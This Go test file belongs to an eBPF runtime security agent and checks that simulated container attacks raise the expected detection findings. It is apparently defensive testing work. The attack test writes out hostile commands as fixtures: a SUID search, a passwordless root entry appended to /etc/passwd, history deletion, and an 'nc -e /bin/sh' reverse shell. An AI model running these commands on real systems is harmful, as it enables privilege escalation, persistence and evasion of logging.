package agent

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	dto "github.com/prometheus/client_model/go"

	"github.com/vigilsec/vigil/internal/dockertest"
	"github.com/vigilsec/vigil/scorer/finding"
)

// startLive runs the real agent (eBPF collector) writing findings to a file.
// It skips without root/BPF unless VIGIL_REQUIRE_BPF=1.
func startLive(t *testing.T) (*Agent, string) {
	return startLiveB(t, nil)
}

func startLiveB(t testing.TB, tweak func(*Config)) (*Agent, string) {
	t.Helper()
	if os.Geteuid() != 0 {
		if os.Getenv("VIGIL_REQUIRE_BPF") == "1" {
			t.Fatal("BPF required (VIGIL_REQUIRE_BPF=1) but not root")
		}
		t.Skip("live agent test needs root and BPF (set VIGIL_REQUIRE_BPF=1 to fail instead)")
	}
	dir := t.TempDir()
	cfg := fileConfig(dir)
	cfg.Listen = "127.0.0.1:0"
	if tweak != nil {
		tweak(&cfg)
	}
	a, err := New(context.Background(), cfg, quiet)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- a.RunLive(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("agent: %v", err)
		}
		a.Close()
	})
	deadline := time.Now().Add(30 * time.Second)
	for a.Health().Source == nil {
		select {
		case err := <-done:
			if os.Getenv("VIGIL_REQUIRE_BPF") == "1" {
				t.Fatalf("agent did not start: %v", err)
			}
			t.Skipf("collector cannot load here (set VIGIL_REQUIRE_BPF=1 to fail instead): %v", err)
		default:
		}
		if time.Now().After(deadline) {
			t.Fatal("collector did not start in 30s")
		}
		time.Sleep(50 * time.Millisecond)
	}
	return a, filepath.Join(dir, "findings.jsonl")
}

// waitFindings polls the findings file until want types are present for
// the container or the timeout passes.
func waitFindings(t *testing.T, path, ctr string, want []string, timeout time.Duration) map[string]finding.Finding {
	deadline := time.Now().Add(timeout)
	for {
		got := map[string]finding.Finding{}
		if _, err := os.Stat(path); err == nil {
			for _, f := range readFindings(t, path) {
				if f.Resource.ContainerDetails != nil && f.Resource.ContainerDetails.ID == ctr {
					got[f.Type] = f
				}
			}
		}
		missing := 0
		for _, w := range want {
			if _, ok := got[w]; !ok {
				missing++
			}
		}
		if missing == 0 || time.Now().After(deadline) {
			return got
		}
		time.Sleep(200 * time.Millisecond)
	}
}

func TestLiveAttacksInAContainer(t *testing.T) {
	a, path := startLive(t)
	img := dockertest.BusyboxImage(t)
	labels := []string{
		"--label", "com.amazonaws.ecs.cluster=prod",
		"--label", "com.amazonaws.ecs.task-arn=arn:aws:ecs:us-east-1:123456789012:task/prod/0123456789abcdef0123456789abcdef",
		"--label", "com.amazonaws.ecs.container-name=app",
		"--label", "com.amazonaws.ecs.task-definition-family=web",
		"--label", "com.amazonaws.ecs.task-definition-version=3",
	}
	// Every action stays inside the container: --network none, loopback only.
	// Busybox's shell runs some applets (find, rm) inside itself without an
	// exec, which no exec-based rule can see; full paths make it exec them.
	attack := strings.Join([]string{
		"sleep 2",
		"/bin/find / -perm -4000 -type f >/dev/null 2>&1",
		"cp /bin/busybox /tmp/kx && /tmp/kx true",
		"echo 'r00t::0:0::/root:/bin/sh' >> /etc/passwd",
		"/bin/rm -f /root/.bash_history",
		"nc 127.0.0.1 4444 -e /bin/sh; true",
		"sleep 30",
	}, "; ")
	start := time.Now()
	ctr := dockertest.Run(t, append(append([]string{}, labels...), img, "sh", "-c", attack)...)
	want := []string{
		"Discovery:Runtime/SuspiciousCommand", "Execution:Runtime/NewBinaryExecuted",
		"PrivilegeEscalation:Runtime/SensitiveFileModified", "DefenseEvasion:Runtime/SuspiciousCommand",
		"Execution:Runtime/ReverseShell",
	}
	got := waitFindings(t, path, ctr, want, 20*time.Second)
	var have []string
	for ty := range got {
		have = append(have, ty)
	}
	sort.Strings(have)
	for _, w := range want {
		f, ok := got[w]
		if !ok {
			t.Errorf("no %s finding for the container within 20s (got %v)", w, have)
			continue
		}
		e := f.Resource.EcsClusterDetails
		if e == nil || e.Name != "prod" || e.TaskDetails == nil || e.TaskDetails.Family != "web" ||
			!strings.HasSuffix(e.TaskDetails.Arn, "/0123456789abcdef0123456789abcdef") {
			t.Errorf("%s: ECS details %+v", w, e)
		}
		if f.Service.Workload != "web/app" {
			t.Errorf("%s: workload %q, want web/app", w, f.Service.Workload)
		}
	}
	t.Logf("findings for the attack container after %s: %v", time.Since(start).Round(time.Millisecond), have)
	logLatency(t, a)
}

func TestLiveBenignContainerRaisesNothing(t *testing.T) {
	_, path := startLive(t)
	img := dockertest.BusyboxImage(t)
	benign := "sleep 2; ls / >/dev/null; cat /etc/hostname >/dev/null; echo hi > /tmp/out.txt; " +
		"cat /tmp/out.txt >/dev/null; find /tmp -name '*.txt' >/dev/null; id >/dev/null; sleep 30"
	ctr := dockertest.Run(t, img, "sh", "-c", benign)
	got := waitFindings(t, path, ctr, []string{"never"}, 8*time.Second)
	for ty, f := range got {
		t.Errorf("benign container raised %s: %s", ty, f.Title)
	}
}

// logLatency reports the event-to-finding latency histogram.
func logLatency(t *testing.T, a *Agent) {
	mfs, err := a.Registry().Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, mf := range mfs {
		if mf.GetName() != "vigil_event_to_finding_seconds" {
			continue
		}
		h := mf.GetMetric()[0].GetHistogram()
		t.Logf("event-to-finding latency over %d findings: p50 <= %s, p99 <= %s", h.GetSampleCount(),
			quantile(h, 0.5), quantile(h, 0.99))
		return
	}
	t.Error(errors.New("no latency histogram"))
}

// quantile is the upper bound of the histogram bucket holding quantile q.
func quantile(h *dto.Histogram, q float64) time.Duration {
	target := q * float64(h.GetSampleCount())
	for _, b := range h.GetBucket() {
		if float64(b.GetCumulativeCount()) >= target {
			return time.Duration(b.GetUpperBound() * float64(time.Second))
		}
	}
	return -1
}
